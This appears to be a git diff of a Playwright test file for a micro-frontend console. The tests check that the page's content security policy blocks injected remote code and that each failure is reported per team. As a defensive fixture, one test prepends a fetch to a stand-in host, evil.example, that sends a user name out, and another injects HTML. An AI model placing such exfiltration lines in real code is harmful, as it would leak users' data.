@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test'
-import { failures, remotes } from '@matchdesk/shared/contract'
+import { remotes, telemetry } from '@matchdesk/shared/contract'
 import { admin } from '../../support/api'
 import { axeViolations } from '../../support/axe'
 import { expect, question, toast } from '../../support/console'
@@ -15,7 +15,6 @@ test.describe.configure({ mode: 'default' })
 
 const table = (page: Page) => page.getByRole('table', { name: 'Remotes' })
 const getFailureTable = (page: Page, team: string) => page.getByRole('table', { name: `Failures: ${team}` })
-const violations = (page: Page) => page.getByRole('table', { name: 'CSP violations' })
 const remote = (page: Page, name: string) =>
   table(page)
     .getByRole('row')
@@ -25,7 +24,7 @@ const inGerman = (code: string) => code.replace('title:"Index"', 'title:"Nr."')
 
 /** Hides the tab, which lets the console tell the server; returns the status of the answer. */
 async function sendReport(page: Page) {
-  const response = awaitResponse(page, remotes.report)
+  const response = awaitResponse(page, telemetry.report)
   await page.evaluate(() => {
     Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true })
     document.dispatchEvent(new Event('visibilitychange'))
@@ -66,7 +65,7 @@ test('says what runs here and everywhere, passes axe in light and dark, fits 360
   await expect(remote(page, 'masterdata')).toContainText(/\d ms.*100 % run 1\.0\.0-/)
   await expect(remote(page, 'users')).toContainText(/Not opened yet.*No reports yet/)
   await expect(remote(page, 'shell')).toContainText('100 % run')
-  await expect(page.getByRole('heading', { name: 'CSP violations' })).toBeVisible()
+  await expect(page.getByRole('heading', { name: 'Failures' })).toBeVisible()
   for (const colorScheme of ['light', 'dark'] as const) {
     await page.emulateMedia({ colorScheme })
     expect(await axeViolations(page)).toEqual([])
@@ -169,7 +168,7 @@ test.describe('while something fails', () => {
     await page.route(/\/releases\/users\/[^/]+\/remoteEntry/, (route) =>
       route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' }),
     )
-    const told = awaitResponse(page, failures.report)
+    const told = awaitResponse(page, telemetry.report)
     await open('/users/all')
     await expect(page.getByRole('main').getByRole('alert')).toContainText('App Users is not available')
     expect((await told).status()).toBe(200)
@@ -181,26 +180,25 @@ test.describe('while something fails', () => {
   test('the page of remotes names the remote whose file the policy refuses', async ({ page, open, own }) => {
     const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
     releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
-    const told = awaitResponse(page, remotes.report)
     await open('/payment/details')
     await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
-    expect((await told).status()).toBe(200)
     await page.goto('/#/remotes')
-    await expect(violations(page).getByRole('row').filter({ hasText: 'payments' })).toContainText('connect-src')
-    await expect(violations(page)).toContainText('https://evil.example/collect')
-    await expect(violations(page)).not.toContainText('ayesha')
+    await seeFailure(
+      page,
+      'Payments team',
+      /The policy of the page refused it\. \(connect-src\).*https:\/\/evil\.example\/collect.*payments 1\.0\.1-leaking/,
+    )
+    await expect(getFailureTable(page, 'Payments team')).not.toContainText('ayesha')
   })
 
   test('the page of remotes names the remote whose text the browser refuses as HTML', async ({ page, open, own }) => {
     const careless = 'try{document.body.insertAdjacentHTML("beforeend","<img id=written>")}catch{};'
     releaseRemote(own.releases, 'payments', '1.0.1-careless', (code) => careless + code)
-    const told = awaitResponse(page, remotes.report)
     await open('/payment/details')
     await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
     await expect(page.locator('#written')).toHaveCount(0)
-    expect((await told).status()).toBe(200)
     await page.goto('/#/remotes')
-    await expect(violations(page).getByRole('row').filter({ hasText: 'require-trusted-types-for' })).toContainText('payments')
+    await seeFailure(page, 'Payments team', /\(require-trusted-types-for\).*payments 1\.0\.1-careless/)
   })
 
   test('the page says why, shows what it knows itself, and Retry brings the rest', async ({ page, open }) => {
@@ -211,12 +209,12 @@ test.describe('while something fails', () => {
     await expect(table(page).getByRole('button')).toHaveCount(0)
     await restore()
     await page.getByRole('button', { name: 'Retry' }).click()
-    await expect(page.getByRole('heading', { name: 'CSP violations' })).toBeVisible()
+    await expect(page.getByRole('heading', { name: 'Failures' })).toBeVisible()
     await expect(page.getByRole('alert')).toHaveCount(0)
   })
 
   test('a report that does not arrive says nothing to anybody', async ({ page, open }) => {
-    await intercept(page, remotes.report, (route) => route.fulfill({ status: 401, json: { message: 'Please sign in again' } }))
+    await intercept(page, telemetry.report, (route) => route.fulfill({ status: 401, json: { message: 'Please sign in again' } }))
     await open('/remotes')
     await expect(remote(page, 'users')).toBeVisible()
     expect(await sendReport(page)).toBe(401)
